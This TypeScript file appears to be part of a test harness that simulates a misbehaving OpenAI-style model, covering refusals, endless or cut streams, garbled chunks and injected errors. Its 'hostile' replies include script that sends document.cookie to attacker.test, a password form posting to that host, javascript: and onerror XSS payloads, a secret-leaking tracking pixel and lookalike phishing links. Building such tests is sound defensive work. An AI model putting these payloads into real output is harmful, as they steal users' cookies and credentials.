/** Answers of a model that misbehaves, which faults of mode `reply` ask for. */
import { createRequestedError, toErrorBody } from "./errors.ts";

export const openAiReplies = [
  "text",
  "refusal",
  "empty",
  "tool-call",
  "html",
  "markdown",
  "links",
  "endless",
  "cut",
  "stall",
  "garbled",
  "error",
] as const;

/** The part of a fault that changes an answer. */
interface ReplyFault {
  reply?: string | undefined;
  /** The text of some replies. */
  message?: string | undefined;
}

/** What the model says instead of its answer. */
export interface Answer {
  content: string | null;
  refusal?: string;
  toolCall?: { name: string; arguments: string };
  /** Sent at once, beyond any limit of the request. */
  isUnlimited?: boolean;
}

/** How an answer ends halfway: with these bytes, then closed, broken or left open. */
export interface Break {
  bytes: string;
  end: "close" | "break" | "stall";
}

const endlessBytes = 2 * 1024 * 1024;
const endlessText = "Encore un mot, et puis un autre. ";

const hostile = {
  html: `<h2>Offre</h2><script>fetch("https://attacker.test/?c=" + document.cookie)</script><img src="x" onerror="alert(1)">
<a href="javascript:alert(1)">Cliquez ici</a><form action="https://attacker.test"><input name="password"></form>`,
  markdown: `![suivi](https://attacker.test/pixel.png?q=secret) [Cliquez](javascript:alert(1)) **gras** \`code\`
| a | b |
|---|---|
<details open ontoggle=alert(1)>
[ref]: data:text/html,<script>alert(1)</script>`,
  links: `Voyez https://attacker.test/licence, [la documentation](https://shopify.attacker.test/activate), [ici](//attacker.test),
[le portail](/activate@attacker.test), http://portal.test et [activer](/activate).`,
};

export function createAnswer({ reply, message }: ReplyFault): Answer | null {
  switch (reply) {
    case "text":
      return { content: message ?? "" };
    case "refusal":
      return { content: null, refusal: message ?? "I'm sorry, but I can't assist with that request." };
    case "empty":
      return { content: "" };
    case "tool-call":
      return { content: null, toolCall: { name: "remove_licence", arguments: '{"email":"alice@demo.test"}' } };
    case "endless":
      return { content: endlessText.repeat(endlessBytes / endlessText.length), isUnlimited: true };
    case "html":
    case "markdown":
    case "links":
      return { content: hostile[reply] };
    default:
      return null;
  }
}

export function createBreak({ reply, message }: ReplyFault, isStream: boolean): Break | null {
  switch (reply) {
    case "cut":
      return { bytes: "", end: "break" };
    case "stall":
      return { bytes: "", end: "stall" };
    case "garbled":
      return { bytes: isStream ? 'data: {"id":"chatcmpl-\n\n' : "", end: "close" };
    case "error": {
      const text = message ?? "The server had an error while processing your request. Sorry about that!";
      const body = JSON.stringify(toErrorBody(createRequestedError("server_error", text)));
      return { bytes: isStream ? `data: ${body}\n\n` : "", end: "close" };
    }
    default:
      return null;
  }
}
